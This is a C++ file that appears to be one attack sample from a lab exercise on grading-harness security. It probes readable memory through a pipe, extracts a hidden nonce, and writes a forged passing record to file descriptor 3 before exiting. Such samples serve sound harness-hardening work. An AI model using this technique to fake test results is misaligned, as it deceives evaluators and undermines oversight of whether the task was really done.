// attack: finds the nonce in memory, writes the record of a pass and ends
// exercise: 03
// gets: forged
#include "attacked.hpp"

#include "parts/find_nonce.cpp"

#include <unistd.h>

namespace lab::attacked {

int twice(int) {
    int ends[2];
    pipe(ends);
    const std::string nonce = attack::find_nonce([&](const char* page) {
        char read_back = 0;
        return write(ends[1], page, 1) == 1 && read(ends[0], &read_back, 1) == 1;
    });
    const std::string record = attack::passing_record(nonce);
    write(3, record.data(), record.size());
    _exit(0);
}

} // namespace lab::attacked

#include "parts/child.cpp"
